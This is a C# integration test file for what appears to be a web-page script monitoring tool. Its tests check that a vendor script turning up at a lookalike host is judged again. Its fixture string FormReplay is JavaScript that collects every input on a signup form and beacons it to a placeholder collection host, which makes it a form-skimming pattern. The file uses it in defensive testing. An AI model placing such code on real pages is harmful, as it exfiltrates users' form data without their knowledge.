using Microsoft.EntityFrameworkCore;
using static PageShield.IntegrationTests.Inventory.Captures;

namespace PageShield.IntegrationTests.Detection;

/// <summary>That a file speaks to where it comes from excuses it there alone.</summary>
public sealed class RehostedContentTests
{
    private const string Home = "https://shop.example/";

    private const string FormReplay = """
        var form = document.querySelector('form#signup');
        form.addEventListener('submit', function () {
          var fields = {};
          form.querySelectorAll('input').forEach(function (field) { fields[field.name] = field.value; });
          navigator.sendBeacon('https://collect.formstats.example/v1', JSON.stringify(fields));
        });
        """;

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_vendors_file_that_turns_up_at_a_strangers_address_is_judged_anew_once(Provider provider)
    {
        await using var site = await JudgedSite.CreateAsync(provider);
        await site.CrawlAsync(Of(Home, (File("https://js.formstats.example/f.js"), FormReplay)));
        var first = await JudgedAtAsync(site);

        await site.CrawlAsync(
            Of(Home, (File("https://js.formstats.example/f.js"), FormReplay), (File("https://cdn.lookalike.example/f.js"), FormReplay)));
        var second = await JudgedAtAsync(site);
        await site.CrawlAsync(
            Of(Home, (File("https://js.formstats.example/f.js"), FormReplay), (File("https://cdn.third.example/f.js"), FormReplay)));

        Assert.True(second > first, "A content that turned up at another owner's address was not judged again.");
        Assert.Equal(second, await JudgedAtAsync(site));
    }

    [Fact]
    public async Task Another_file_of_the_same_vendor_is_no_reason()
    {
        await using var site = await JudgedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of(Home, (File("https://js.formstats.example/f.js"), FormReplay)));
        var first = await JudgedAtAsync(site);

        await site.CrawlAsync(
            Of(Home, (File("https://js.formstats.example/f.js"), FormReplay), (File("https://eu.formstats.example/f.js"), FormReplay)));

        Assert.Equal(first, await JudgedAtAsync(site));
    }

    private static Task<DateTimeOffset> JudgedAtAsync(JudgedSite site) =>
        site.AskAsync(db => db.Judgements.AsNoTracking().Select(row => row.JudgedAt).SingleAsync(Cancel));
}
